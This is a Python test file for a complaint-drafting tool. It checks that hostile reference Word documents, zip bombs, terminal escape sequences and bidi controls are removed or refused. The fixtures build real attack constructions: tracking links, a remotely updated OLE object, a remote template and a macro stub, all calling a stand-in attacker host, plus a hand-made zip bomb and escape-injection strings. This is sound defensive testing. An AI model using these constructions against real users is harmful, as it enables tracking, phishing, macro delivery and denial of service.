"""Issue 14, reference documents and output safety: a hostile --reference-docx, control
characters on the terminal, bidi controls in what we write, and a quadratic safe_name.

Each test builds the attack as an attacker would (python-docx and zipfile, or a hand-made zip
for a bomb) and shows what complaint-kit does with it now."""

from __future__ import annotations

import io
import json
import re
import resource
import struct
import subprocess
import time
import zipfile
import zlib
from pathlib import Path

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn

from complaint_kit.docx.basedoc import ReferenceDocxError, open_base, reference_base
from complaint_kit.model.jurisdiction import Typography
from tests.clirun import run_cli
from tests.realtools import validate_docx

EVIL = "http://attacker.example"
TEMPLATE_RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
VBA_RT = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"

def _png() -> bytes:
    """A 1×1 PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">L", len(data)) + kind + data
                + struct.pack(">L", zlib.crc32(kind + data)))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">2L5B", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


PNG = _png()


def _run(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return run_cli(*args)


def _field_runs(paragraph, instruction: str, result: str) -> None:
    """A complex field (begin, instruction, separate, cached result, end) at the paragraph's end."""
    w = nsdecls("w")
    for xml in (f'<w:r {w}><w:fldChar w:fldCharType="begin"/></w:r>',
                f'<w:r {w}><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>',
                f'<w:r {w}><w:fldChar w:fldCharType="separate"/></w:r>',
                f'<w:r {w}><w:t>{result}</w:t></w:r>',
                f'<w:r {w}><w:fldChar w:fldCharType="end"/></w:r>'):
        paragraph._p.append(parse_xml(xml))


def hostile_reference(path: Path) -> Path:
    """A letterhead that carries everything a reference document should not pass on."""
    document = docx.Document()
    core = document.core_properties
    core.author, core.last_modified_by = "Dr Secret Author", "Secret Editor"
    core.keywords, core.comments = "secret-keyword", "secret description"
    core.subject, core.category = "secret subject", "secret category"
    body = document.add_paragraph("template body with a client's name")
    document.add_comment(body.runs, text="secret reviewer comment", author="Secret Reviewer",
                         initials="SR")
    document.add_picture(io.BytesIO(PNG))  # an image of the body only: goes with the body

    section = document.sections[0]
    header = section.header.paragraphs[0]
    header.text = "Example Legal Clinic"
    header.add_run().add_picture(io.BytesIO(PNG))  # the clinic's logo: kept
    header_part = section.header.part
    # An external image: the logo's blip also links to the attacker's server.
    link = header_part.relate_to(f"{EVIL}/pixel.png", RT.IMAGE, is_external=True)
    header._p.xpath(".//a:blip")[0].set(qn("r:link"), link)
    # An OLE object linked to a remote workbook, updated on open.
    ole = header_part.relate_to("file://attacker.example/share/x.xlsx", RT.OLE_OBJECT,
                                is_external=True)
    header._p.append(parse_xml(
        f'<w:r {nsdecls("w", "r")} xmlns:v="urn:schemas-microsoft-com:vml" '
        f'xmlns:o="urn:schemas-microsoft-com:office:office"><w:object>'
        f'<v:shape id="_x0000_i1025" style="width:10pt;height:10pt"/>'
        f'<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" '
        f'DrawAspect="Content" r:id="{ole}" UpdateMode="Always"/></w:object></w:r>'))
    # A field that fetches a remote picture whenever fields are updated.
    _field_runs(header, f'INCLUDEPICTURE "{EVIL}/track.png" \\d', "[picture]")

    footer = section.footer.paragraphs[0]
    footer.text = "Page "
    _field_runs(footer, "PAGE", "1")  # a field a letterhead needs: kept
    site = section.footer.part.relate_to(f"{EVIL}/phish", RT.HYPERLINK, is_external=True)
    footer._p.append(parse_xml(f'<w:hyperlink {nsdecls("w", "r")} r:id="{site}"><w:r>'
                               f'<w:t xml:space="preserve"> www.clinic.example</w:t></w:r>'
                               f'</w:hyperlink>'))

    # A remote template, attached in the settings.
    settings = document.part.part_related_by(RT.SETTINGS)
    template = settings.relate_to(f"{EVIL}/template.dotm", TEMPLATE_RT,
                                       is_external=True)
    settings.element.insert(0, parse_xml(
        f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{template}"/>'))
    # Macros, carried in a .docx.
    vba = Part(PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject",
               b"Attribute VB_Name = \"AutoOpen\"" * 10, document.part.package)
    document.part.relate_to(vba, VBA_RT)
    document.save(path)
    return path


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_a_hostile_reference_keeps_its_letterhead_and_nothing_else(tmp_path):
    reference = hostile_reference(tmp_path / "letterhead.docx")
    before = _parts(reference.read_bytes())
    assert "word/comments.xml" in before and "word/vbaProject.bin" in before  # the attack

    base = reference_base(reference, Typography())
    parts = _parts(base)
    everything = b"\n".join(parts.values())
    for secret in (b"Secret", b"secret", b"attacker.example", b"INCLUDEPICTURE",
                   b"AutoOpen", b"client's name"):
        assert secret not in everything, secret
    assert not any(name.startswith(("word/comments", "word/vbaProject", "docProps/app",
                                    "docProps/custom", "docProps/thumbnail"))
                   for name in parts), sorted(parts)
    rels = b"\n".join(v for k, v in parts.items() if k.endswith(".rels"))
    assert b"External" not in rels and b"oleObject" not in rels and b"vbaProject" not in rels
    # One image is left: the logo in the header (the body's went with the body).
    assert [n for n in parts if n.startswith("word/media/")] == ["word/media/image1.png"]

    document = open_base(base)
    header = document.sections[0].header
    assert header.paragraphs[0].text.startswith("Example Legal Clinic")
    assert "[picture]" in header.paragraphs[0].text  # the field's last result, as plain text
    assert header._element.xpath(".//a:blip/@r:embed")  # the logo is still there
    assert not header._element.xpath(
        ".//*[local-name()='OLEObject'] | .//w:fldChar | .//w:instrText")
    footer = document.sections[0].footer._element
    assert footer.xpath("string(.//w:instrText)").strip() == "PAGE"
    assert "www.clinic.example" in footer.xpath("string(.)") and not footer.xpath(
        ".//w:hyperlink")
    assert document.styles["Normal"] is not None and document.settings is not None
    core = document.core_properties
    assert (core.author, core.keywords, core.comments, core.last_modified_by) == ("",) * 4

    out = tmp_path / "out.docx"
    document.save(out)
    validate_docx([out])


def test_a_draft_on_a_hostile_reference_carries_none_of_it(tmp_path, example_path):
    reference = hostile_reference(tmp_path / "letterhead.docx")
    out = tmp_path / "out"
    result = _run("draft", example_path, "--out", out, "--doc", "notice",
                  "--reference-docx", reference)
    assert result.returncode == 0, result.stderr
    [written] = out.glob("*.docx")
    everything = b"\n".join(_parts(written.read_bytes()).values())
    assert b"Secret" not in everything and b"attacker.example" not in everything
    assert docx.Document(written).sections[0].header.paragraphs[0].text.startswith(
        "Example Legal Clinic")


def _raw_zip(path: Path, members: dict[str, bytes | tuple[bytes, int, int]]) -> None:
    """A zip written byte by byte, as an attacker would: a member is its bytes, or an already
    deflated stream with the CRC and the size its headers declare (which may lie)."""
    local, central, offset = [], [], 0
    for name, member in members.items():
        if isinstance(member, bytes):
            member = (zlib.compress(member)[2:-4], zlib.crc32(member), len(member))
        data, crc, size = member
        fields = (20, 0, 8, 0, 33, crc, len(data), size, len(name))
        head = struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields, 0) + name.encode()
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, 0,
                                   offset) + name.encode())
        local.append(head + data)
        offset += len(head) + len(data)
    directory = b"".join(central)
    path.write_bytes(b"".join(local) + directory + struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central), len(directory), offset, 0))


def _zeros(mib: int) -> bytes:
    """A deflate stream of ``mib`` MiB of zeros, about 1 kB per MiB, made without deflating
    them: one MiB fully flushed is the same bytes every time."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return chunk * mib + b"\x03\x00"


def _bomb(path: Path, declared_mib: int | None) -> Path:
    """A letterhead whose logo unzips to 3 GiB of zeros (a 3 MB file); its headers declare
    the real size, or ``declared_mib``."""
    letterhead = io.BytesIO()
    document = docx.Document()
    document.sections[0].header.paragraphs[0].add_run().add_picture(io.BytesIO(PNG))
    document.save(letterhead)
    members: dict[str, bytes | tuple[bytes, int, int]] = dict(_parts(letterhead.getvalue()))
    crc = 0
    for _ in range(3072):
        crc = zlib.crc32(bytes(1 << 20), crc)
    size = (declared_mib if declared_mib is not None else 3072) << 20
    members["word/media/image1.png"] = (_zeros(3072), crc, size)
    _raw_zip(path, members)
    return path


@pytest.mark.parametrize("declared_mib", [None, 1], ids=["honest-headers", "lying-headers"])
def test_a_zip_bomb_reference_is_refused_quickly_and_in_bounded_memory(tmp_path, declared_mib):
    bomb = _bomb(tmp_path / "bomb.docx", declared_mib)
    assert bomb.stat().st_size < 4 << 20
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # kB on Linux
    started = time.perf_counter()
    with pytest.raises(ReferenceDocxError) as error:
        reference_base(bomb, Typography())
    assert time.perf_counter() - started < 10
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 300_000  # < 300 MB
    message = str(error.value)
    assert "bomb.docx" in message and "\n" not in message
    assert ("unzips to more than" in message if declared_mib is None
            else "image1.png" in message), message


def test_a_reference_error_is_one_line_naming_the_file_and_what_is_wrong(tmp_path,
                                                                        example_path):
    not_zip = tmp_path / "letterhead.docx"
    not_zip.write_text("not a word file", encoding="utf-8")
    result = _run("draft", example_path, "--out", tmp_path, "--reference-docx", not_zip)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    [line] = result.stderr.splitlines()
    assert "letterhead.docx" in line and "not a zip" in line, line

    bomb = _bomb(tmp_path / "bomb.docx", None)
    result = _run("draft", example_path, "--out", tmp_path, "--reference-docx", bomb)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    [line] = result.stderr.splitlines()
    assert "bomb.docx" in line and "MiB" in line, line


# --- the terminal ------------------------------------------------------------------------

HOSTILE_ID = "demo\x1b[31mRED\x1b]0;pwned\x07\x9b2J\u202eevil\r\x08"


def _hostile_case(tmp_path: Path, example_path: Path) -> Path:
    text = example_path.read_text(encoding="utf-8").replace(
        "id: demo-cn-001", "id: " + json.dumps(HOSTILE_ID))
    case = tmp_path / "case.yaml"
    case.write_text(text, encoding="utf-8")
    (tmp_path / "evidence").mkdir(exist_ok=True)
    return case


CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_case_data_reaches_the_terminal_without_control_characters(tmp_path, example_path):
    case = _hostile_case(tmp_path, example_path)
    for args in (("check", case), ("draft", case, "--out", tmp_path / "out")):
        result = _run(*args)
        assert result.returncode == 0, result.stderr
        assert "demo[31mRED]0;pwned2Jevil" in result.stdout
        assert not CONTROLS.search(result.stdout + result.stderr), repr(result.stdout[:300])
    result = _run("check", case, "--json")
    assert json.loads(result.stdout)["case"] == HOSTILE_ID  # the data, escaped, not lost
    assert not CONTROLS.search(result.stdout)
    # The file names hold no control or bidi characters either.
    assert not any(CONTROLS.search(p.name) for p in (tmp_path / "out").iterdir())


def test_error_lines_carry_no_control_characters(capsys):
    import typer

    from complaint_kit.cli.common import fail

    assert isinstance(fail(f"case.yaml: id {HOSTILE_ID!s}: bad\ud800"), typer.Exit)
    err = capsys.readouterr().err
    assert err.startswith("error: case.yaml: id demo[31mRED") and not CONTROLS.search(err)


# --- bidi controls in what we write --------------------------------------------------------

def test_bidi_controls_are_balanced_or_removed():
    from complaint_kit.textclean import clean_xml_text

    rlo, pdf, lri, fsi, pdi = "\u202e", "\u202c", "\u2066", "\u2068", "\u2069"
    # Overrides and embeddings reorder what follows them: they go, balanced or not.
    assert clean_xml_text(f"pay {rlo}0001{pdf} now") == ("pay 0001 now", 2)
    # Isolates closed on their line stay (phones put them around names); the rest go.
    assert clean_xml_text(f"from {fsi}Li{pdi} to {lri}Wang") == (f"from {fsi}Li{pdi} to Wang",
                                                                  1)
    assert clean_xml_text(f"a{lri}b\nc{pdi}d")[0] == "ab\ncd"
    assert clean_xml_text(f"| {lri}a | b{pdi} |")[0] == "| a | b |"  # table cells apart
    assert clean_xml_text(f"{pdi}x{fsi}{fsi}y{pdi}")[0] == f"x{fsi}y{pdi}"


def test_a_hostile_id_leaves_no_unbalanced_bidi_control_in_the_docx_or_txt(tmp_path,
                                                                         example_path):
    case = _hostile_case(tmp_path, example_path)
    text = case.read_text(encoding="utf-8").replace(
        "name: 张测试", 'name: "张测试\u202e\u2067"', 1)
    case.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    result = _run("draft", case, "--out", out)
    assert result.returncode == 0, result.stderr
    written = [p for p in out.iterdir() if p.suffix in (".docx", ".txt")]
    assert any(p.suffix == ".txt" for p in written)
    for path in written:
        if path.suffix == ".txt":
            content = path.read_text(encoding="utf-8")
        else:
            content = b"".join(_parts(path.read_bytes()).values()).decode("utf-8", "replace")
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", content), path.name


# --- safe_name --------------------------------------------------------------------------

@pytest.mark.parametrize("char", ["x", "汉", "😀"])
def test_safe_name_is_linear_in_the_length_of_the_id(char):
    from complaint_kit.draft.pipeline import MAX_NAME_BYTES, safe_name

    started = time.perf_counter()
    name = safe_name(char * 100_000)
    assert time.perf_counter() - started < 0.5  # was 22 s
    assert 0 < len(name.encode()) <= MAX_NAME_BYTES and set(name) == {char}
    assert len((name + char).encode()) > MAX_NAME_BYTES  # the longest prefix that fits


def test_safe_name_is_linear_for_a_long_run_of_combining_marks():
    from complaint_kit.draft.pipeline import safe_name

    started = time.perf_counter()
    name = safe_name("a" + "\u0301\u0316" * 50_000)  # NFC reorders such a run: 12 s
    assert time.perf_counter() - started < 0.5 and name.startswith("\u00e1")


def test_safe_name_keeps_names_as_before():
    from complaint_kit.draft.pipeline import safe_name

    assert safe_name("wang-2026-01") == "wang-2026-01"
    assert safe_name(" a/b:c*d?.. ") == "a_b_c_d"
    assert safe_name("con.txt") == "_con.txt"
    assert safe_name("张 三\t王") == "张_三_王"
    assert safe_name("\u202eexe.docx\x7f\x9b") == "exe.docx"
    assert safe_name("...") == "case"


def test_the_draft_says_how_many_invisible_characters_it_left_out(tmp_path):
    """A control character and an unclosed text-direction mark are dropped from the letter, and
    the warning says what kind of character went, not only "control characters"."""
    from complaint_kit.casefile.load import load_case
    from complaint_kit.draft.pipeline import draft_case
    from complaint_kit.plugins.registry import get_registry

    registry = get_registry()
    case = load_case(Path(__file__).resolve().parents[1] / "examples" / "uk-harassment.yaml",
                     registry)
    case.complainant.name = "Sam\x07 Example\u2067"
    _, drafts = draft_case(case, registry, tmp_path, durable=False)
    for draft in drafts:  # the name is printed once or more in each document
        assert any(re.fullmatch(r"[1-9]\d* invisible control characters \(ones Word files "
                                r"cannot hold, or text-direction marks left open\) were left "
                                r"out", w) for w in draft.warnings), draft.path.name


def test_batch_error_lines_carry_no_control_characters(tmp_path):
    from typer.testing import CliRunner

    from complaint_kit.cli.app import app

    hostile = tmp_path / "cases\x1b[2J\x1b]0;owned\x07.txt"  # named in the error line
    hostile.write_text("not a batch\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["batch", str(hostile), "-o", str(tmp_path / "out")])
    assert result.exit_code == 2
    assert "not a batch input" in result.output and "cases[2J]0;owned.txt" in result.output
    assert "\x1b" not in result.output and "\x07" not in result.output


def test_the_interview_shows_case_data_without_control_characters():
    """What the interview prints back (a name typed or pasted earlier) passes terminal_text."""
    from complaint_kit.interview.terminal import Terminal

    shown: list[str] = []
    term = Terminal("en", read=lambda prompt: "", write=shown.append)
    term.write("Now: Sam\x1b[2J\x1b]0;owned\x07 Example\u202e")
    assert shown == ["Now: Sam[2J]0;owned Example"]  # the escapes, harmless without ESC
